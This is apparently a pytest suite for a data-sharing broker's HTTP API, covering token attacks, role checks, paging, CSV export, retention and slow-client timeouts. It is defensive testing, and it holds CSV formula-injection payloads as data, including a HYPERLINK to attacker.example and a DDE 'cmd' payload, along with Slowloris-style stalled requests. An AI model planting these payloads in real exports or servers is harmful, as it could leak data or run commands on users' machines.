"""Analysts' feeds and the IG audit API over real HTTP on loopback: tokens, rights, paging,
CSV, event streams, traces, retention, agreements; every read and refusal audited."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp

from adapters.synthetic import SyntheticGenerator
from broker.auth.broker_key import load_or_create_broker_key
from broker.auth.tokens import DEFAULT_AUDIENCE, DEFAULT_ISSUER, issue_token
from broker.demo import DemoEnvironment
from broker.service import Broker
from tests.helpers import audit_entries, stored_records
from tests.token_attacks import attack_tokens

# HTTP ingest takes JSON only (415 otherwise).
JSON = {"Content-Type": "application/json"}


def token(broker: Broker, role: str, consumer: str | None = None, sub: str = "someone@example.org") -> str:
    kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
    return issue_token(
        key,
        kid,
        sub=sub,
        role=role,
        consumer=consumer,
        ttl=timedelta(minutes=10),
        issuer=DEFAULT_ISSUER,
        audience=DEFAULT_AUDIENCE,
    )


def auth(tok: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {tok}"}


async def get(broker: Broker, path: str, tok: str | None = None, **params: str) -> tuple[int, Any, dict[str, str]]:
    async with (
        aiohttp.ClientSession() as session,
        session.get(broker.url + path, headers=auth(tok) if tok else {}, params=params) as resp,
    ):
        body: Any = await resp.json() if resp.content_type == "application/json" else await resp.text()
        return resp.status, body, dict(resp.headers)


async def send(broker: Broker, env: DemoEnvironment, count: int, seed: int, partner: str = "derby-pubwatch") -> None:
    gen = SyntheticGenerator(seed=seed)
    async with aiohttp.ClientSession() as session:
        for _ in range(count):
            rec = gen.nte_incident(partner)
            body = env.signers[partner].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
            async with session.post(broker.url + "/v1/events", data=body, headers=JSON) as resp:
                assert resp.status == 202, await resp.text()


def db(broker: Broker) -> Path:
    return broker.settings.data_dir / "broker.db"


async def test_analyst_reads_own_feed_and_is_audited(broker: Broker, env: DemoEnvironment) -> None:
    await send(broker, env, 5, seed=1)
    tok = token(broker, "analyst", "derbyshire-police-licensing", sub="lic-analyst")
    status, body, _ = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok)
    assert status == 200
    assert body["count"] == 5
    assert all(r["consumer"] == "derbyshire-police-licensing" for r in body["records"])
    accessed = audit_entries(db(broker), "accessed")
    assert accessed[-1]["sub"] == "lic-analyst"
    assert sorted(accessed[-1]["record_ids"]) == sorted(r["record_id"] for r in body["records"])


async def test_reading_another_consumers_feed_is_403_and_audited(broker: Broker, env: DemoEnvironment) -> None:
    await send(broker, env, 2, seed=2)
    tok = token(broker, "analyst", "derby-csp-analysts", sub="csp-analyst")
    status, body, _ = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok)
    assert status == 403
    assert body["reason"] == "not_your_feed"
    denied = audit_entries(db(broker), "access_denied")
    assert denied[-1]["reason"] == "not_your_feed"
    assert denied[-1]["sub"] == "csp-analyst"
    assert audit_entries(db(broker), "accessed") == []


async def test_no_token_is_401_and_audited(broker: Broker) -> None:
    status, body, headers = await get(broker, "/v1/feeds/derby-csp-analysts/records")
    assert status == 401
    assert body["reason"] == "token_missing"
    assert headers["WWW-Authenticate"].startswith("Bearer")
    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_missing"


async def test_audit_routes_need_the_ig_role(broker: Broker) -> None:
    analyst = token(broker, "analyst", "derby-csp-analysts")
    for path in ("/v1/audit/entries", "/v1/audit/export", "/v1/audit/checkpoints", "/v1/audit/verify"):
        status, body, _ = await get(broker, path, analyst)
        assert status == 403, path
        assert body["reason"] == "role_not_allowed"
    ig = token(broker, "ig", sub="ig-lead")
    status, body, _ = await get(broker, "/v1/audit/entries", ig, kind="started")
    assert status == 200
    assert body["entries"][0]["kind"] == "started"
    status, body, _ = await get(broker, "/v1/audit/verify", ig)
    assert status == 200
    assert body["ok"] is True


# Every route that needs a bearer token, with a concrete path to request, and a token role it
# refuses (403). A route added to the app and not listed here fails the test below.
PUBLIC_ROUTES = {
    ("POST", "/v1/events"),  # partners authenticate by signature, not by token
    ("GET", "/healthz"),
    ("GET", "/readyz"),
    ("GET", "/openapi.json"),
    ("GET", "/metrics"),  # unauthenticated by design (counts only; NetworkPolicy): http_metrics.py
}
PROTECTED_ROUTES: dict[tuple[str, str], tuple[str, str | None]] = {
    ("GET", "/v1/feeds/{consumer}/records"): ("/v1/feeds/derby-csp-analysts/records", "ig"),
    ("GET", "/v1/feeds/{consumer}/stream"): ("/v1/feeds/derby-csp-analysts/stream", "admin"),
    ("GET", "/v1/feeds/{consumer}/board"): ("/v1/feeds/derby-csp-analysts/board?quarter=2026-Q3", "ig"),
    ("GET", "/v1/audit/entries"): ("/v1/audit/entries", "analyst"),
    ("GET", "/v1/audit/export"): ("/v1/audit/export", "analyst"),
    ("GET", "/v1/audit/trace/{record_id}"): ("/v1/audit/trace/derby-pubwatch:0123456789abcdef", "analyst"),
    ("GET", "/v1/audit/checkpoints"): ("/v1/audit/checkpoints", "analyst"),
    ("GET", "/v1/audit/verify"): ("/v1/audit/verify", "analyst"),
    ("POST", "/v1/audit/verify"): ("/v1/audit/verify", "analyst"),
    ("GET", "/v1/held"): ("/v1/held", "analyst"),
    ("POST", "/v1/held/release"): ("/v1/held/release", "analyst"),
    ("POST", "/v1/held/discard"): ("/v1/held/discard", "analyst"),
    ("GET", "/v1/agreements"): ("/v1/agreements", None),
}


def app_routes(broker: Broker) -> set[tuple[str, str]]:
    assert broker.runner is not None
    return {
        (route.method, route.resource.canonical)
        for route in broker.runner.app.router.routes()
        if route.resource is not None and route.method != "HEAD"
    }


def test_every_route_is_public_on_purpose_or_in_the_token_matrix(broker: Broker) -> None:
    # Threat: a new route mounted without authenticate(), or one the attack matrix never tries.
    # The IG console's pages take a session cookie, not a bearer token: tests/test_console.py
    # attacks them (and holds every /console route to its own list).
    api = {(method, path) for method, path in app_routes(broker) if not path.startswith("/console")}
    assert api - PUBLIC_ROUTES == set(PROTECTED_ROUTES)


async def test_token_attack_matrix_on_every_protected_route_is_refused_and_audited(broker: Broker) -> None:
    kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
    cases = attack_tokens(key, kid, issuer=DEFAULT_ISSUER, audience=DEFAULT_AUDIENCE)
    assert len(cases) >= 80
    expected: list[str] = []
    async with aiohttp.ClientSession() as session:
        for (method, template), (path, wrong_role) in PROTECTED_ROUTES.items():
            attempts = list(cases)
            if wrong_role is not None:
                consumer = "derby-csp-analysts" if wrong_role == "analyst" else None
                attempts.append(("wrong_role", token(broker, wrong_role, consumer), "role_not_allowed"))
            for name, tok, reason in attempts:
                headers = auth(tok) if tok else {}
                async with session.request(method, broker.url + path, headers=headers) as resp:
                    body = await resp.json()
                    where = f"{template} {name}"
                    # never a 5xx, never a read: 401 for a bad token, 403 for a good one of the wrong role
                    assert resp.status == (403 if reason == "role_not_allowed" else 401), where
                    assert body["reason"] == reason, where
                expected.append(reason)
    denied = audit_entries(db(broker), "access_denied")
    assert [d["reason"] for d in denied] == expected  # one access_denied entry per refusal, in order
    assert audit_entries(db(broker), "accessed") == []
    text = json.dumps(denied)
    assert all(tok not in text for _, tok, _ in cases if len(tok) > 20)  # tokens are never stored


async def test_duplicate_consumer_claim_does_not_read_the_vru_feed(broker: Broker, env: DemoEnvironment) -> None:
    # Issue 11 item 7: {"consumer": "derby-csp-analysts", ..., "consumer": "derbyshire-vru"},
    # validly signed, read the VRU feed ("last wins").
    await send(broker, env, 3, seed=11)
    kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
    cases = {name: tok for name, tok, _ in attack_tokens(key, kid, issuer=DEFAULT_ISSUER, audience=DEFAULT_AUDIENCE)}
    for path in ("/v1/feeds/derbyshire-vru/records", "/v1/feeds/derby-csp-analysts/records"):
        status, body, _ = await get(broker, path, cases["duplicate_consumer_csp_then_vru"])
        assert status == 401, path
        assert body["reason"] == "token_malformed"
    assert [d["reason"] for d in audit_entries(db(broker), "access_denied")] == ["token_malformed"] * 2
    assert audit_entries(db(broker), "accessed") == []


async def test_oversized_authorization_header_is_401_audited_and_never_stored(broker: Broker) -> None:
    # Issue 11 item 8: a header too large for the verifier is a token refusal like any other (401
    # with a challenge, audited), not a parser 400 that leaves no trace.
    canary = "OVERSIZED-CANARY-7f3a"
    for size in (9_000, 20_000, 30_000):
        value = "Bearer " + (canary * (size // len(canary) + 1))[:size]
        async with (
            aiohttp.ClientSession() as session,
            session.get(broker.url + "/v1/audit/entries", headers={"Authorization": value}) as resp,
        ):
            assert resp.status == 401, size
            assert (await resp.json())["reason"] == "token_malformed"
            assert resp.headers["WWW-Authenticate"].startswith("Bearer")
    denied = audit_entries(db(broker), "access_denied")
    assert [d["reason"] for d in denied] == ["token_malformed"] * 3
    assert canary not in db(broker).read_bytes().decode("latin-1")


async def test_two_authorization_headers_are_refused(broker: Broker) -> None:
    # A proxy and the broker could each act on a different one of two Authorization headers.
    good = token(broker, "ig")
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            broker.url + "/v1/audit/entries",
            headers=[("Authorization", f"Bearer {good}"), ("Authorization", "Bearer x")],
        ) as resp,
    ):
        assert resp.status == 401
        assert (await resp.json())["reason"] == "token_malformed"
    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_malformed"


async def test_paging_under_concurrent_inserts_returns_each_record_once(broker: Broker, env: DemoEnvironment) -> None:
    consumer = "derbyshire-police-licensing"
    tok = token(broker, "analyst", consumer)
    writer = asyncio.create_task(send(broker, env, 120, seed=3))
    seen: list[str] = []
    cursor = ""
    while True:
        params = {"limit": "7"} | ({"after": cursor} if cursor else {})
        status, body, _ = await get(broker, f"/v1/feeds/{consumer}/records", tok, **params)
        assert status == 200
        seen.extend(r["record_id"] for r in body["records"])
        cursor = body["next_cursor"]
        if writer.done() and not body["records"]:
            break
        await asyncio.sleep(0.01)
    await writer
    stored = [h.record["record_id"] for h in stored_records(db(broker)) if h.consumer == consumer]
    assert len(seen) == len(set(seen))  # no repeats
    assert sorted(seen) == sorted(stored)  # no skips
    assert len(stored) == 120


async def test_csv_feed_and_filters(broker: Broker, env: DemoEnvironment) -> None:
    await send(broker, env, 4, seed=4)
    tok = token(broker, "analyst", "derbyshire-police-licensing")
    status, text, headers = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok, format="csv")
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 4
    assert {"record_id", "released_at", "premises_licence_ref", "category"} <= set(rows[0])
    assert "X-Next-Cursor" in headers
    status, body, _ = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok, event_type="ae_assault")
    assert body["count"] == 0
    status, body, _ = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok, after="!!bad")
    assert status == 400
    assert body["reason"] == "bad_cursor"


async def test_event_stream_resumes_from_last_event_id(broker: Broker, env: DemoEnvironment) -> None:
    consumer = "derbyshire-police-licensing"
    tok = token(broker, "analyst", consumer)
    await send(broker, env, 6, seed=5)

    async def read_events(n: int, last_id: str | None) -> list[tuple[str, dict[str, Any]]]:
        headers = auth(tok) | ({"Last-Event-ID": last_id} if last_id else {})
        events: list[tuple[str, dict[str, Any]]] = []
        async with (
            aiohttp.ClientSession() as session,
            session.get(f"{broker.url}/v1/feeds/{consumer}/stream", headers=headers) as resp,
        ):
            assert resp.status == 200
            event_id, data = "", ""
            async for raw in resp.content:
                line = raw.decode().rstrip("\n")
                if line.startswith("id: "):
                    event_id = line[4:]
                elif line.startswith("data: "):
                    data = line[6:]
                elif line == "" and data:
                    events.append((event_id, json.loads(data)))
                    data = ""
                    if len(events) == n:
                        break
        return events

    first = await read_events(4, None)
    await send(broker, env, 3, seed=6)
    rest = await read_events(5, first[-1][0])
    ids = [e["record_id"] for _, e in first + rest]
    assert len(ids) == len(set(ids)) == 9


async def test_trace_shows_receipt_release_read_and_purge(broker: Broker, env: DemoEnvironment) -> None:
    await send(broker, env, 1, seed=7)
    tok = token(broker, "analyst", "derbyshire-police-licensing")
    _, body, _ = await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok)
    record_id = body["records"][0]["record_id"]
    purged = await broker.purge_expired(broker.clock() + timedelta(days=4000))
    assert purged >= 1
    ig = token(broker, "ig")
    status, trace, _ = await get(broker, f"/v1/audit/trace/{record_id}", ig)
    assert status == 200
    kinds = [e["kind"] for e in trace["entries"]]
    assert kinds == ["received", "released", "accessed", "purged"]
    status, _, _ = await get(broker, "/v1/audit/trace/rec-unknown", ig)
    assert status == 404


async def test_retention_purges_expired_records_and_audits_it(broker: Broker, env: DemoEnvironment) -> None:
    await send(broker, env, 3, seed=8)
    tok = token(broker, "analyst", "derbyshire-police-licensing")
    assert (await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok))[1]["count"] == 3
    assert await broker.purge_expired(broker.clock() + timedelta(days=1)) == 0  # not yet expired
    purged = await broker.purge_expired(broker.clock() + timedelta(days=4000))
    assert purged == 6  # 3 incidents x (licensing + CSP)
    # the records are gone; in their place each consumer reads a deletion notice (issue 12 item 4)
    feed = (await get(broker, "/v1/feeds/derbyshire-police-licensing/records", tok))[1]
    assert [r["notice"] for r in feed["records"]] == ["deleted"] * 3
    assert all("data" not in r and r["reason"] == "retention_expired" for r in feed["records"])
    entries = audit_entries(db(broker), "purged")
    assert sum(e["count"] for e in entries) == 6
    assert sum(e["notified"] for e in entries) == 6
    assert all(e["reason"] == "retention_expired" for e in entries)


async def test_agreements_listing_with_warnings(broker: Broker) -> None:
    status, body, _ = await get(broker, "/v1/agreements", token(broker, "ig"))
    assert status == 200
    ids = {a["id"] for a in body["agreements"]}
    assert "dsa-istv-ae-2026" in ids
    assert all(a["state"] in ("in_force", "expired", "not_yet_valid", "review_overdue") for a in body["agreements"])
    from broker.transports.http_access import agreement_summaries

    assert broker.policy is not None
    soon = agreement_summaries(broker.policy, broker.clock(), timedelta(days=100000))
    assert any(s["warnings"] for s in soon if s["state"] == "in_force")


async def test_event_stream_ends_when_the_token_expires(broker: Broker, env: DemoEnvironment) -> None:
    consumer = "derbyshire-police-licensing"
    kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
    short = issue_token(
        key, kid, sub="s", role="analyst", consumer=consumer, ttl=timedelta(seconds=1),
        issuer=DEFAULT_ISSUER, audience=DEFAULT_AUDIENCE,
    )  # fmt: skip
    events: list[str] = []
    async with (
        aiohttp.ClientSession() as session,
        session.get(f"{broker.url}/v1/feeds/{consumer}/stream", headers=auth(short)) as resp,
    ):
        assert resp.status == 200
        await asyncio.sleep(1.3)
        await send(broker, env, 2, seed=9)  # released after the token expired: must not be streamed
        async for raw in resp.content:
            line = raw.decode().strip()
            if line.startswith("event: "):
                events.append(line[7:])
    assert events == ["token_expired"]


async def test_bad_query_parameters_are_400_not_500(broker: Broker) -> None:
    ig = token(broker, "ig")
    analyst = token(broker, "analyst", "derby-csp-analysts")
    feed = "/v1/feeds/derby-csp-analysts/records"
    import base64

    huge_cursor = base64.urlsafe_b64encode(b"v1:" + b"9" * 30).decode().rstrip("=")
    for path, tok, params in (
        (feed, analyst, {"limit": "\u00b2"}),
        (feed, analyst, {"after": huge_cursor}),
        (feed, analyst, {"since": "0001-01-01T00:00:00+01:00"}),
        ("/v1/audit/entries", ig, {"after": "\u00b2"}),
        ("/v1/audit/entries", ig, {"after": "9" * 30}),
        ("/v1/audit/export", ig, {"until": "0001-01-01T00:00:00+01:00"}),
    ):
        status, body, _ = await get(broker, path, tok, **params)
        assert status == 400, (path, params, body)


# -- HTTP ingest media type (issue 11 item 5) --------------------------------------------------------
async def test_ingest_refuses_every_content_type_but_json_with_415(broker: Broker, env: DemoEnvironment) -> None:
    # The attack: a valid signed envelope sent as a form, as text/plain (a browser's CORS "simple
    # request" needs no preflight), as XML, with no type, with another charset: each must be
    # refused before it is parsed, and nothing kept.
    gen = SyntheticGenerator(seed=21)
    refused = [
        None,
        "application/octet-stream",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/json; charset=latin-1",
        "application/json; charset=utf-16",
        "application/jsonx",
        "text/json",
        "application/problem+json",
    ]
    async with aiohttp.ClientSession() as session:
        for content_type in refused:
            rec = gen.nte_incident("derby-pubwatch")
            body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
            headers = {} if content_type is None else {"Content-Type": content_type}
            # skip_auto_headers: aiohttp would add application/octet-stream to a bodied request
            async with session.post(
                broker.url + "/v1/events", data=body, headers=headers, skip_auto_headers=["Content-Type"]
            ) as resp:
                assert resp.status == 415, content_type
                answer = await resp.json()
                assert answer["reason"] == "unsupported_media_type", content_type
                assert "application/json" in answer["message"]
        # Two Content-Type headers: which one a proxy acted on is unknown.
        rec = gen.nte_incident("derby-pubwatch")
        body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
        two = [("Content-Type", "application/json"), ("Content-Type", "text/plain")]
        async with session.post(broker.url + "/v1/events", data=body, headers=two) as resp:
            assert resp.status in (400, 415)  # aiohttp's parser refuses a second Content-Type first
        accepted = ["application/json", "application/cloudevents+json", "Application/JSON; charset=UTF-8"]
        for content_type in accepted:
            rec = gen.nte_incident("derby-pubwatch")
            body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
            async with session.post(broker.url + "/v1/events", data=body, headers={"Content-Type": content_type}) as r:
                assert r.status == 202, content_type
    assert len(stored_records(db(broker))) > 0
    assert len(audit_entries(db(broker), "received")) == len(accepted)


# -- CSV formula injection (issue 11 item 15) ----------------------------------------------------------
FORMULA_SIGNS = ("=", "+", "-", "@")
LEADING_SPACE = ["", " ", "  ", "\t", "\r", "\n", "\r\n", " \t\r\n ", "\u00a0", "\u3000", "\u2003", "\x0b", "\x0c"]


def spreadsheet_reads_a_formula(cell: str) -> bool:
    """The oracle, written from what a spreadsheet does rather than from csv_cell: leading
    whitespace skipped, compatibility characters folded (NFKC), then the formula signs; a cell
    starting with a tab or CR is quoted in any case (OWASP)."""
    import unicodedata

    if cell.startswith(("\t", "\r")):
        return True
    folded = unicodedata.normalize("NFKC", cell).lstrip()
    return folded.startswith(FORMULA_SIGNS)


def test_csv_neutralises_every_character_that_folds_to_a_formula_sign_after_any_whitespace() -> None:
    import sys
    import unicodedata

    from broker.spreadsheet import csv_cell

    # Exhaustive over the code space: every character whose NFKC form starts with = + - @
    # (fullwidth ＝＋－＠, small ﹦﹢﹣﹫, superscript ⁺⁼, subscript ₊₌₋ ...), after every prefix.
    signs = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c)).startswith(FORMULA_SIGNS)
    ]
    assert {"＝", "＋", "－", "＠", "﹦", "⁼"} <= set(signs)
    for sign in signs:
        for prefix in LEADING_SPACE:
            cell = prefix + sign + 'HYPERLINK("https://attacker.example","x")'
            out = csv_cell(cell)
            assert out == "'" + cell, (prefix, sign)
            assert not spreadsheet_reads_a_formula(out)
    for harmless in ("abc", " abc", "\u00a0x", "2026-01-01", "x=1", "", "   ", "'=already"):
        assert csv_cell(harmless) == harmless


def test_csv_cell_never_leaves_a_formula_hypothesis() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from broker.spreadsheet import csv_cell

    pieces = st.sampled_from([*LEADING_SPACE[1:], "＝", "＋", "－", "＠", "=", "a"])
    prefix = st.lists(pieces, max_size=4).map("".join)

    @settings(max_examples=400, deadline=None)
    @given(prefix, st.text(max_size=12))
    def check(head: str, tail: str) -> None:
        cell = head + tail
        out = csv_cell(cell)
        assert out in (cell, "'" + cell)
        assert not spreadsheet_reads_a_formula(out) or out.startswith("'")
        if spreadsheet_reads_a_formula(cell):
            assert out.startswith("'")

    check()


# -- slow clients (issue 11 item 9) --------------------------------------------------------------------
async def slow_broker(env: DemoEnvironment, tmp_path: Path) -> Broker:
    from broker.settings import Settings

    settings = Settings(
        keys_dir=env.keys_dir,
        secrets_file=env.secrets_file,
        data_dir=tmp_path,
        http_port=0,
        http_header_timeout=0.5,
        http_body_timeout=0.5,
    )
    instance = Broker(settings)
    await instance.start()
    return instance


async def stalled(broker: Broker, sent: bytes, bound: float = 10.0) -> bytes:
    """Open a raw connection, send ``sent``, stall; return what the server answered before it
    closed the connection (which must happen well before ``bound``)."""
    host, port = broker.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(sent)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), bound)  # read() returns at EOF: the server closed
    finally:
        writer.close()


async def test_a_stalled_chunked_body_is_answered_408_and_closed(env: DemoEnvironment, tmp_path: Path) -> None:
    broker = await slow_broker(env, tmp_path)
    try:
        head = (
            "POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n"
        )
        answer = await stalled(broker, head.encode() + b'10\r\n{"specversion":')
        assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
        assert b"request_timeout" in answer
        # A declared Content-Length the client never finishes: the same.
        head = "POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n"
        answer = await stalled(broker, head.encode() + b"{")
        assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
    finally:
        await broker.stop()


async def test_stalled_headers_are_closed(env: DemoEnvironment, tmp_path: Path) -> None:
    broker = await slow_broker(env, tmp_path)
    try:
        # Slowloris: a request head that never ends, and a connection that never sends anything.
        assert await stalled(broker, b"GET /v1/agreements HTTP/1.1\r\nHost: x\r\nX-Slow: a") == b""
        assert await stalled(broker, b"") == b""
        assert await stalled(broker, b"GET /v1/agreements HTTP/1.1\r\nHo") == b""
    finally:
        await broker.stop()


async def test_audit_csv_export_neutralises_a_fullwidth_formula_planted_in_a_feed_path(broker: Broker) -> None:
    # The attack end to end: an analyst asks for the feed of a "consumer" whose id is a formula
    # after a space, in fullwidth signs; the refusal is audited; the IG lead exports the audit
    # trail as CSV and opens it in a spreadsheet. Two defences meet here: the access audit keeps
    # an unknown caller value only as its SHA-256 (so the formula never reaches the trail), and
    # every CSV cell is neutralised anyway (tested on its own above).
    import hashlib
    from urllib.parse import quote

    planted = [
        '＝HYPERLINK("https://attacker.example/?leak","open me")',
        " ＋cmd|' /C calc'!A0",
        "\t－1+1",
        "＠SUM(A1)",
    ]
    analyst = token(broker, "analyst", "derby-csp-analysts")
    for value in planted:
        status, _, _ = await get(broker, f"/v1/feeds/{quote(value, safe='')}/records", analyst)
        assert status == 403, value
    status, text, _ = await get(broker, "/v1/audit/export", token(broker, "ig", sub="ig-lead"), format="csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(text)))
    denied = json.dumps(audit_entries(db(broker), "access_denied"))
    for value in planted:
        assert not [cell for row in rows for cell in row if value.strip() in cell], value
        assert hashlib.sha256(value.encode()).hexdigest() in denied, value  # still matchable by the IG lead
    assert all(not spreadsheet_reads_a_formula(cell) for row in rows for cell in row)


async def test_a_token_that_breaks_the_verifier_is_still_a_401_and_audited(broker: Broker) -> None:
    # Defence in depth behind the strict claim checks: whatever a token makes the verifier's code
    # raise, the answer is a 401 with an access_denied entry, never a 500. The verifier is real; its
    # clock is made to fail, the way an unforeseen claim value made datetime fail (exp 1e300).
    def broken_clock() -> datetime:
        raise OverflowError("date value out of range")

    assert broker.access is not None
    verifier = broker.access.verifier
    original = verifier._clock
    verifier._clock = broken_clock
    try:
        status, body, headers = await get(broker, "/v1/agreements", token(broker, "ig"))
    finally:
        verifier._clock = original
    assert status == 401
    assert body["reason"] == "token_malformed"
    assert headers["WWW-Authenticate"].startswith("Bearer")
    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_malformed"
